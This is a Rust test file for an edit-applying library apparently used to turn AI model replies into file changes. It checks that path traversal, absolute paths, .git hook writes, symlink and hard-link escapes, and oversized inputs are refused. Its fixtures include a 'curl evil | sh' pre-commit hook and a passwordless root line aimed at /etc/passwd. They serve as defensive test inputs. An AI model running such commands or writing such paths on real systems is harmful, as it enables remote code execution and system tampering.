//! Replies that try to write outside the workspace, or to wear the parser out, are refused
//! quickly and leave the disk as it was.

mod support;

use smartworker_edits::{
    Edit, EditError, Limits, ParseError, PathError, apply, check_path, parse_reply,
};
use std::os::unix::fs::symlink;
use std::path::Path;
use support::{SIGNUP_PY, known, read, write};

/// A workspace inside a parent directory, so that escapes to `..` can be looked for.
struct Sandboxed {
    parent: tempfile::TempDir,
}

impl Sandboxed {
    fn new() -> Sandboxed {
        let parent = tempfile::tempdir().expect("tempdir");
        write(&parent.path().join("ws"), "handlers/signup.py", SIGNUP_PY);
        Sandboxed { parent }
    }

    fn root(&self) -> std::path::PathBuf {
        self.parent.path().join("ws")
    }

    /// Parses and applies; returns the apply error.
    fn refuse(&self, reply: &str) -> EditError {
        let edits = parse_reply(reply, &known(&["handlers/signup.py"])).expect("parses");
        let err = apply(&self.root(), &edits, &Limits::default()).expect_err("must be refused");
        assert_eq!(
            read(&self.root(), "handlers/signup.py"),
            SIGNUP_PY,
            "workspace untouched"
        );
        err
    }
}

fn entries(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("read dir")
        .map(|entry| {
            entry
                .expect("entry")
                .file_name()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    names.sort();
    names
}

#[test]
fn dotdot_path_is_refused() {
    let ws = Sandboxed::new();
    let err = ws.refuse("File: ../../etc/passwd\n```\nroot::0:0::/root:/bin/sh\n```\n");
    assert_eq!(
        err.to_string(),
        "refused path \"../../etc/passwd\" leaves the project root"
    );
    assert_eq!(entries(ws.parent.path()), vec!["ws".to_owned()]);
}

#[test]
fn dotdot_into_the_parent_is_refused() {
    let ws = Sandboxed::new();
    let err = ws.refuse("```python path=../evil.py\nimport os\n```\n");
    assert!(
        matches!(err, EditError::Path(PathError::Escapes { .. })),
        "{err}"
    );
    assert_eq!(entries(ws.parent.path()), vec!["ws".to_owned()]);
}

#[test]
fn absolute_path_is_refused() {
    let ws = Sandboxed::new();
    let err = ws.refuse("```text path=/etc/passwd\nroot::0:0::/root:/bin/sh\n```\n");
    assert!(
        matches!(err, EditError::Path(PathError::Absolute { .. })),
        "{err}"
    );
}

#[test]
fn windows_drive_path_is_refused() {
    let ws = Sandboxed::new();
    let err = ws.refuse("**C:\\x**\n```\nboom\n```\n");
    assert!(
        matches!(err, EditError::Path(PathError::WindowsPrefix { .. })),
        "{err}"
    );
    assert!(check_path(&ws.root(), "\\\\server\\share\\x").is_err());
}

#[test]
fn git_directory_is_refused() {
    let ws = Sandboxed::new();
    let err = ws.refuse("File: .git/hooks/pre-commit\n```sh\ncurl evil | sh\n```\n");
    assert!(
        matches!(err, EditError::Path(PathError::GitDir { .. })),
        "{err}"
    );
}

#[test]
fn symlinked_directory_pointing_outside_is_refused() {
    let ws = Sandboxed::new();
    let outside = tempfile::tempdir().expect("tempdir");
    symlink(outside.path(), ws.root().join("shared")).expect("symlink");

    let err = ws.refuse("**shared/evil.py**\n```python\nimport os\n```\n");
    assert!(
        matches!(err, EditError::Path(PathError::SymlinkEscape { .. })),
        "{err}"
    );
    assert!(
        entries(outside.path()).is_empty(),
        "nothing written through the link"
    );
}

#[test]
fn symlinked_file_pointing_outside_is_refused() {
    let ws = Sandboxed::new();
    let outside = tempfile::tempdir().expect("tempdir");
    let secret = outside.path().join("secret.txt");
    std::fs::write(&secret, "keep me\n").expect("write");
    symlink(&secret, ws.root().join("handlers/config.py")).expect("symlink");

    let err = ws.refuse("**handlers/config.py**\n```python\nSECRET = 1\n```\n");
    assert!(
        matches!(err, EditError::Path(PathError::SymlinkEscape { .. })),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(&secret).expect("read"), "keep me\n");
}

#[test]
fn oversized_edit_is_refused_before_any_write() {
    let ws = Sandboxed::new();
    let limits = Limits::default();
    let big = "x = 1\n".repeat(limits.max_file_bytes / 6 + 1);
    let edits = vec![
        Edit::WholeFile {
            path: "handlers/new.py".into(),
            content: "ok = True\n".into(),
        },
        Edit::WholeFile {
            path: "handlers/big.py".into(),
            content: big,
        },
    ];
    let err = apply(&ws.root(), &edits, &limits).expect_err("refused");
    assert!(matches!(err, EditError::EditTooLarge { .. }), "{err}");
    assert_eq!(
        entries(&ws.root().join("handlers")),
        vec!["signup.py".to_owned()]
    );
}

#[test]
fn oversized_reply_is_refused() {
    let reply = format!("```python\n{}```\n", "x = 1\n".repeat(200_000));
    let err = parse_reply(&reply, &[]).expect_err("refused");
    assert!(matches!(err, ParseError::TooLarge { .. }), "{err}");
}

#[test]
fn too_many_files_are_refused() {
    let ws = Sandboxed::new();
    let limits = Limits {
        max_files: 2,
        ..Limits::default()
    };
    let edits: Vec<Edit> = (0..5)
        .map(|n| Edit::WholeFile {
            path: format!("f{n}.py"),
            content: "x = 1\n".into(),
        })
        .collect();
    let err = apply(&ws.root(), &edits, &limits).expect_err("refused");
    assert_eq!(
        err.to_string(),
        "the edits touch 5 files, more than the 2 allowed"
    );
    assert_eq!(entries(&ws.root()), vec!["handlers".to_owned()]);
}

#[test]
fn ten_thousand_fences_are_refused() {
    let reply = "```python path=a.py\nx = 1\n```\n".repeat(10_000);
    let err = parse_reply(&reply, &[]).expect_err("refused");
    assert!(matches!(err, ParseError::TooManyBlocks { .. }), "{err}");
}

#[test]
fn pathological_search_that_matches_nowhere_is_refused() {
    // Every line alike, so a naive line-by-line search would compare about n*m lines.
    let ws = Sandboxed::new();
    write(&ws.root(), "same.txt", &"a\n".repeat(200_000));
    let search = format!("{}b\n", "a\n".repeat(100_000));
    let edits = vec![Edit::Replace {
        path: "same.txt".into(),
        search,
        replace: "c\n".into(),
    }];
    let err = apply(&ws.root(), &edits, &Limits::default()).expect_err("not found");
    assert!(matches!(err, EditError::SearchNotFound { .. }), "{err}");
}

#[test]
fn failing_second_edit_leaves_the_first_file_unwritten() {
    let ws = Sandboxed::new();
    let edits = vec![
        Edit::WholeFile {
            path: "handlers/util.py".into(),
            content: "x = 1\n".into(),
        },
        Edit::Replace {
            path: "handlers/signup.py".into(),
            search: "nowhere\n".into(),
            replace: "x\n".into(),
        },
    ];
    let err = apply(&ws.root(), &edits, &Limits::default()).expect_err("refused");
    assert!(matches!(err, EditError::SearchNotFound { .. }), "{err}");
    assert!(!ws.root().join("handlers/util.py").exists());
}

#[test]
fn partial_whole_file_is_refused() {
    // A model that sends three lines of a long file as "the fixed file".
    let ws = Sandboxed::new();
    write(&ws.root(), "handlers/long.py", &"x = 1\n".repeat(30));
    let edits = vec![Edit::WholeFile {
        path: "handlers/long.py".into(),
        content: "x = 2\n".into(),
    }];
    let err = apply(&ws.root(), &edits, &Limits::default()).expect_err("refused");
    assert!(
        matches!(
            err,
            EditError::Shrinks {
                old_lines: 30,
                new_lines: 1,
                ..
            }
        ),
        "{err}"
    );
}

/// A tiny deterministic generator, so the garbage below is the same on every run.
struct Lcg(u64);

impl Lcg {
    fn next(&mut self, bound: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        ((self.0 >> 33) as usize) % bound
    }
}

#[test]
fn garbage_replies_never_panic() {
    const PIECES: [&str; 24] = [
        "```",
        "```python",
        "```diff",
        "~~~",
        "````",
        "\n",
        "\n\n",
        "<<<<<<< SEARCH",
        "=======",
        ">>>>>>> REPLACE",
        "@@ -1,2 +1,2 @@",
        "--- a/x.py",
        "+++ b/x.py",
        "-",
        "+",
        " ",
        "def handle(p):",
        "    return p",
        "function f() {",
        "}",
        "**handlers/signup.py**",
        "../../x",
        "é✓\u{0}",
        "# ... rest ...",
    ];
    let ws = Sandboxed::new();
    let mut rng = Lcg(7);
    let (mut parsed, mut applied) = (0, 0);
    for _ in 0..3000 {
        let mut reply = String::new();
        for _ in 0..rng.next(40) {
            reply.push_str(PIECES[rng.next(PIECES.len())]);
            if rng.next(2) == 0 {
                reply.push('\n');
            }
        }
        // Beyond the absence of a panic, only writes outside the workspace are looked for.
        if let Ok(edits) = parse_reply(&reply, &known(&["handlers/signup.py"])) {
            parsed += 1;
            applied += usize::from(apply(&ws.root(), &edits, &Limits::default()).is_ok());
        }
    }
    assert_eq!(entries(ws.parent.path()), vec!["ws".to_owned()]);
    // The generator must reach the code paths that write, or this test proves little.
    assert!(
        parsed > 100 && applied > 10,
        "parsed {parsed}, applied {applied}"
    );
}

/// Reported: a verified edit of a file hard-linked to one outside the project changed both.
#[test]
fn an_edit_of_a_hard_linked_file_leaves_its_other_name_alone() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let ws = Sandboxed::new();
    let outside = ws.parent.path().join("outside.txt");
    std::fs::write(&outside, "shared text\n").expect("write");
    let inside = ws.root().join("handlers/notes.txt");
    std::fs::hard_link(&outside, &inside).expect("hard link");
    std::fs::set_permissions(&inside, std::fs::Permissions::from_mode(0o640)).expect("chmod");
    let edits = parse_reply(
        "File: handlers/notes.txt\n```\nPWNED through a hard link\n```\n",
        &known(&["handlers/notes.txt"]),
    )
    .expect("parses");
    apply(&ws.root(), &edits, &Limits::default()).expect("applies");
    assert_eq!(
        read(&ws.root(), "handlers/notes.txt"),
        "PWNED through a hard link\n"
    );
    assert_eq!(
        std::fs::read_to_string(&outside).expect("read"),
        "shared text\n"
    );
    let meta = std::fs::metadata(&inside).expect("stat");
    assert_eq!(meta.mode() & 0o777, 0o640, "the file's mode is kept");
    assert_eq!(meta.nlink(), 1);
    assert!(
        !entries(&ws.root().join("handlers"))
            .iter()
            .any(|n| n.starts_with(".smartworker-edit-")),
        "no temporary file is left"
    );
}

#[test]
fn an_edit_through_an_in_project_symlink_changes_the_file_it_names() {
    let ws = Sandboxed::new();
    symlink("signup.py", ws.root().join("handlers/current.py")).unwrap();
    let fixed = format!("{SIGNUP_PY}# fixed\n");
    let edits = parse_reply(
        &format!("File: handlers/current.py\n```python\n{fixed}```\n"),
        &known(&["handlers/current.py"]),
    )
    .expect("parses");
    apply(&ws.root(), &edits, &Limits::default()).expect("applies");
    let link = ws.root().join("handlers/current.py");
    let meta = link.symlink_metadata().expect("link");
    assert!(meta.file_type().is_symlink(), "the link stays a link");
    assert_eq!(read(&ws.root(), "handlers/signup.py"), fixed);
}
